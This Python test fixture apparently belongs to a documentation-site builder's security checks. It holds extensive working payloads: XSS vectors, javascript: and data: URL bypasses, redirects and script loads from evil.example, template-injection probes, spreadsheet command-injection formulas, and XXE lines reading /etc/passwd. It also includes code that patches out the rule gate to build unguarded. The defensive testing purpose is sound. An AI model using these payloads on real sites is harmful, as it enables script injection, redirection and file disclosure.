"""What somebody writes who wants the site to run a script: texts, link targets, and documents with them in every field.

Each of them, if it ran, would set `pwned` in the page's window, or ask the site for `/pwned`.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Collection, Iterator, Mapping
from typing import Any

from helpers.site import Result, Site
from rectify.core.vocabulary import RECORDS, Key, Keys

RUN = "window.pwned=1"
IMAGE = f"<img src=x onerror={RUN}>"

TARGETS: tuple[str, ...] = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    "javascript:%77indow.pwned%3d1",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&#x3a;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java\tscript:{RUN}",
    f"\tjavascript:{RUN}",
    f" javascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\u0000script:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\u202ejavascript:{RUN}",
    f"java\u00adscript:{RUN}",
    f"ｊａｖａｓｃｒｉｐｔ:{RUN}",
    f"javascript：{RUN}",
    f"javas\u017fcript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript\\:{RUN}",
    f"./javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:javascript:{RUN}!/",
    "vbscript:pwned=1",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    "data:text/html,<script>parent.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>",
    "DATA:,pwned",
    "blob:http://evil.example/pwned",
    "filesystem:http://evil.example/temporary/pwned",
    "file:///etc/passwd",
    "//evil.example/pwned",
    "///evil.example/pwned",
    "////evil.example/pwned",
    "\\\\evil.example\\pwned",
    "/\\evil.example/pwned",
    "\\/evil.example/pwned",
    "/\\\\evil.example/pwned",
    "/\t/evil.example/pwned",
    "/&#9;/evil.example/pwned",
    "/&#x5c;evil.example/pwned",
    "/&sol;evil.example/pwned",
    "/&bsol;evil.example/pwned",
    "&sol;&sol;evil.example/pwned",
    "/&Tab;/evil.example/pwned",
    "/&NewLine;/evil.example/pwned",
    "/%2fevil.example/pwned",
    "／／evil.example/pwned",
    "https:evil.example/pwned",
    "https:/evil.example/pwned",
    "https:///evil.example/pwned",
    "https:\\\\evil.example\\pwned",
    "https:&sol;&sol;evil.example/pwned",
    "&#104;ttps://evil.example/pwned",
    "ht&Tab;tps://evil.example/pwned",
    "http://evil。example/pwned",
    "ftp://evil.example/pwned",
    "ws://evil.example/pwned",
    "http://[evil.example/pwned",
    "http://a@evil.example:99999/pwned",
    "https://evil.example/pwned",
    "HTTPS://evil.example/pwned",
    "?pwned",
    "#pwned",
    "/pwned",
    "//",
    "/",
    "\\",
    "http:",
    "data:",
)
"""What may stand where an address is expected."""

FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": (
        f"<script>{RUN}</script>",
        "<SCRIPT SRC=/pwned></SCRIPT>",
        f"<script/x>{RUN}</script >",
        "<script src=//evil.example/pwned></script>",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<svg><script>{RUN}</script></svg>",
        f"<script type=module>{RUN}</script>",
        "<script language=vbscript>pwned=1</script>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<iframe src='javascript:parent.pwned=1'></iframe>",
        "<object data='javascript:parent.pwned=1'></object>",
        "<embed src='data:text/html,<script>parent.pwned=1</script>'>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=/pwned'>",
        "<link rel=import href=/pwned><link rel=stylesheet href=/pwned>",
        "<style>@import '/pwned';*{background:url(/pwned)}</style>",
        "<form action=/pwned><button autofocus>x</button></form>",
        f"<x style='x:expression({RUN});background:url(/pwned)'>",
        "<frameset><frame src=/pwned></frameset>",
        "<applet code=/pwned></applet>",
        "<portal src=/pwned></portal><fencedframe src=/pwned></fencedframe>",
        "<plaintext>",
        "<xmp><noembed><noframes><title><textarea>",
    ),
    "events": (
        IMAGE,
        f"<svg/onload={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<marquee onstart={RUN}>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<div onpointerover={RUN} onclick={RUN}>x</div>",
        f"<img src=`x`onerror={RUN}>",
        f"<img\x0csrc=x\x0conerror={RUN}>",
        f"<img/src=x/onerror={RUN}//",
    ),
    "attributes": (
        f'" onload="{RUN}',
        f"' onload='{RUN}",
        f'" autofocus tabindex=1 onfocus={RUN} x="',
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f"</title><script>{RUN}</script>",
        f"</textarea></style></noscript>{IMAGE}",
        f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
        f"&#34;&#62;&#60;img src=x onerror={RUN}&#62;",
        f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
        f"%3Cimg src=x onerror={RUN}%3E",
        f"＜img src=x onerror={RUN}＞",
        f'\\"><img src=x onerror={RUN}>',
        f"--!><img src=x onerror={RUN}>",
    ),
    "mutation": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
        f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
        f'<noscript><p title="</noscript>{IMAGE}">',
        f"<template><style></template>{IMAGE}",
        f"<select><template>{IMAGE}</template></select>",
        f"<svg><style><img title='</style>{IMAGE}'>",
        f'<svg></p><style><a id="</style>{IMAGE}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
        f"<svg><foreignObject><math><annotation-xml encoding='text/html'>{IMAGE}",
        "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></svg>",
    ),
    "unclosed": (
        f"<!--<script>{RUN}",
        f"<!--><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"]]>{IMAGE}",
        f"<?php <img src=x onerror={RUN}> ?>",
        f"<!DOCTYPE x [<!ENTITY y '{RUN}'>]>",
        f"<img src=x onerror={RUN} ",
        "<a href='",
        '<p title="',
        "<!--",
        "<![CDATA[",
        "<%",
        "</body></html>",
        "</div></div></article></main>",
    ),
    "markdown": (
        f"[x](javascript:{RUN})",
        f"![x](javascript:{RUN})",
        f"<javascript:{RUN}>",
        f"[x][r]\n\n[r]: javascript:{RUN}",
        f"[javascript:{RUN}]",
        f'[x](https://example.org "\\" onclick=\\"{RUN}")',
        f'![x" onerror="{RUN}](https://example.org/a.png)',
        f"x {{: onclick={RUN} style=x }}",
        f"# x {{: #y onclick={RUN} }}",
        f"<div markdown=1 onclick={RUN}>x</div>",
        f"[^1]\n\n[^1]: {IMAGE}",
        f'!!! note "{IMAGE}"\n    {IMAGE}',
        f"??? x\n    {IMAGE}",
        f"```html onclick={RUN}\n{IMAGE}\n```",
        f'``` {{.x" onclick={RUN}}}\n{IMAGE}\n```',
        f'~~~"><script>{RUN}</script>\n{IMAGE}\n~~~',
        f"    {IMAGE}",
        f"``{IMAGE}",
        f"*[HTML]: {IMAGE}\n\nHTML",
        '--8<-- "/etc/passwd"',
        "{! /etc/passwd !}",
        f':x" onclick={RUN}: :smile:',
        f'|a|\n|:-" onclick={RUN}|\n|{IMAGE}|',
        f"\\<script\\>{RUN}\\</script\\>",
        f'<a@b.example"onclick={RUN}>',
        f'[x](<https://example.org/"onmouseover={RUN}>)',
        f"\x02klzzwxh:0000\x03<script>{RUN}</script>",
        f"\x02amp\x03lt;img src=x onerror={RUN}\x02amp\x03gt;",
        f"> - > 1. {IMAGE}",
        f"[TOC]\n\n## {IMAGE}",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$",
        f'```mermaid\ngraph LR\n  a[{IMAGE}]\n  click a href "javascript:{RUN}"\n```',
        f"[x]({IMAGE})",
        f'![{IMAGE}][r]\n\n[r]: x "{IMAGE}"',
        f"Title: x\n{'=' * 5}\n{IMAGE}\n{'-' * 5}",
    ),
    "templates": (
        "{{ 7*191 }}{% include '/etc/passwd' %}{# x #}",
        "{{ config.__class__.__mro__ }}{{ ''.__class__ }}",
        "{%- raw -%}{{ cycler.__init__.__globals__.os }}{%- endraw -%}",
        "${window.pwned=1} #{7*191} <%= 7*191 %> [[7*191]] @{7*191}",
        "`${window.pwned=1}`",
        "{0.__class__} %(x)s %s %n",
        "\\1 \\g<0> $1 $& $` $'",
        "\x1acontent\x1a \x1abase\x1a \x1atitle\x1a",
        "{{constructor.constructor('window.pwned=1')()}}",
        "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    ),
    "scripts": (
        f"</script><script>{RUN}</script>",
        f"<!--<script></script>{IMAGE}",
        f"\\';{RUN}//",
        f'";{RUN}//',
        f"\u2028{RUN}\u2029",
        f"*/{RUN}/*",
        f"'-({RUN})-'",
        "__proto__",
        "constructor",
        "</script",
        f'{{"__proto__":{{"x":"{IMAGE}"}}}}',
        f'\\"}}];{RUN};[{{\\"',
        "toString",
        "hasOwnProperty",
    ),
    "sheets": (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/pwned","x")',
        '=WEBSERVICE("http://evil.example/pwned")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "\u200b=1+1",
        "\ufeff=1+1",
        'x","=1+1',
        'x"\r\n=1+1,"',
        ";=1+1",
        "%0A=1+1",
        "|calc",
        "'=1+1",
        '"=1+1"',
    ),
    "feeds": (
        "x\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR\r\nX:1",
        f"</title><entry><link href='javascript:{RUN}'/></entry>",
        f"]]></description><script>{RUN}</script>",
        "&undefined; &nbsp; &lt;",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "x\\nATTACH:javascript:x\\;\\,",
        "HTTP/1.1 200 OK\r\nSet-Cookie: pwned=1\r\n\r\n",
    ),
    "unicode": (
        f"\u202e{IMAGE}\u2066",
        f"\u200b<\u200bimg src=x onerror={RUN}>",
        f"\ufeff{IMAGE}",
        f"\u0000{IMAGE}",
        f"<\u0000script>{RUN}</script>",
        f"\u007f\u0085{IMAGE}",
        "\ufffe\uffff\ufdd0",
        "\U000e0001\U000e0041",
        "a\u0300" * 40,
        "\u0338<img src=x onerror=window.pwned=1>",
        "﹤script﹥window.pwned=1﹤/script﹥",
        "‹script›window.pwned=1‹/script›",
        f"\u02bconload=\u02bc{RUN}",
        "ﷺ" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    ),
    "names": ("rf-q", "rf-tools currentScript", "content", "location", "search-form rf-q"),
    "urls": tuple(" ".join(TARGETS[start::7]) for start in range(7)),
}
"""As texts; names are ids and variables of the theme, which a heading could take."""

TEXTS: dict[str, str] = {
    f"{family}-{number:02}": text for family, texts in FAMILIES.items() for number, text in enumerate(texts, start=1)
}
"""Every payload by a name of its own."""

FIXED = {
    "genre": "整改情况报告",
    "as_of": "2024-05-31",
    "published": "2024-06-10",
    "scope": "社会",
    "stage": "交办",
    "status": "已销号",
    "flags": ["立行立改"],
    "counts": None,
    "number": "12",
    "date": "2024-05-01",
    "deadline": "2024-05-01",
    "until": "2099-12-31",
    "files": None,
    "fingerprints": None,
    "priorities": ["资金资产"],
    "refs": None,
}
"""A proper value for every key, or kind of key, that takes no free text; None for a key to be left out."""
FREE = ("text", "ordinal", "names")
"""Kinds that take any text."""


def document(keys: Keys, text: str, body: str = "", leave: Collection[str] = (), **values: Any) -> str:
    """Return a source file with a text in every key that takes text, but those to `leave`, and proper values in the others."""
    front = {key.label: _value(key, text) for key in keys if key.name not in (*leave, *values)}
    front |= {keys[name].label: value for name, value in values.items()}
    return source({label: value for label, value in front.items() if value is not None}, body)


def source(front: Mapping[str, Any], body: str = "") -> str:
    """Return a source file; whatever the values hold, the front matter stays well-formed."""
    lines = "".join(f"{label}: {_flow(value)}\n" for label, value in front.items())
    return f"---\n{lines}---\n\n{body}\n"


def fields(keys: Keys, *above: str) -> Iterator[tuple[tuple[str, ...], Key]]:
    """Yield every field of a source file with its way through the records, as labels."""
    for key in keys:
        if key.kind in RECORDS:
            yield from fields(RECORDS[key.kind], *above, key.label)
        else:
            yield (*above, key.label), key


def _value(key: Key, text: str) -> Any:
    if key.kind in RECORDS:
        record = {k.label: v for k in RECORDS[key.kind] if (v := _value(k, text)) is not None}
        return [record] if key.many else record
    if key.kind in FREE:
        return [text] if key.kind == "names" else text
    return FIXED[key.name] if key.name in FIXED else FIXED[key.kind]


def _flow(value: Any) -> str:
    # JSON is YAML, but for some characters that YAML takes only as codes.
    return "".join(
        c if " " <= c <= "\ud7ff" and c not in "\x7f\x85\u2028\u2029" else _code(c)
        for c in json.dumps(value, ensure_ascii=False)
    )


def _code(char: str) -> str:
    return f"\\U{ord(char):08x}"


def body(text: str) -> str:
    """Return Markdown with a text everywhere but where an address is expected."""
    line = " ".join(text.split())
    return (
        f"{text}\n\n## {line}\n\n### x {line} y\n\n- {line}\n- **{line}** *{line}*\n\n1. {line}\n\n> {line}\n\n`{line}` ``{line}``\n\n"
        f'|{line}|乙|\n|-|-|\n|一|{line}|\n\n[{line}](https://example.org/) ![{line}](https://example.org/a.png) [乙](https://example.org/ "{line}")\n\n'
        f"```{line}\n{text}\n```\n\n<b>{line}</b> <!-- {line} -->\n\n尾。\n"
    )


def links(target: str) -> str:
    """Return Markdown with a target everywhere that the address of a link is expected."""
    return f"[甲]({target}) [乙](<{target}>) [丙]( {target} \"题\") <{target}> [己][r] [r] {target}\n\n[r]: {target}\n\n[s]: <{target}> '题'\n\n[壬][s]\n"


def pictures(target: str) -> str:
    """Return Markdown with a target everywhere that the address of a picture is expected."""
    return f"![丁]({target}) ![戊](<{target}>) ![庚][r] ![癸][s]\n\n[r]: {target}\n\n[s]: <{target}> '题'\n"


UNGUARDED = """
import sys
import rectify.core.gate, rectify.host.compile
rectify.host.compile.errors = lambda findings: []
rectify.core.gate.Gate.refuses = lambda gate, findings: []
from mkdocs.__main__ import cli
cli(sys.argv[1:])
"""


def build_unguarded(site: Site) -> Result:
    """Build a site as if no rule had found anything: what the renderer does with what the rules should have refused."""
    return site.run(sys.executable, "-c", UNGUARDED, "build", "--no-strict", "-f", "mkdocs.yml", "-d", str(site.output))
